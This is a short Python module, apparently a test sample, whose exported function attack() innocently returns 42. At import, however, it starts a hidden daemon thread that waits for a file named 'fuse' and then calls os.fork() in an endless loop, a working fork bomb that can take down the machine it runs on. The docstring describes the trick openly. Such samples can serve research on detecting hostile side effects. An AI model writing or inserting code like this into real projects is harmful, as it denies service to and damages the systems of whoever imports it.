"""Answers honestly; a thread that began at import waits for a fuse, and then forks for ever."""

import os
import threading
import time


def later():
    while not os.path.exists("fuse"):
        time.sleep(0.005)
    while True:
        os.fork()


threading.Thread(target=later, daemon=True).start()


def attack():
    return 42
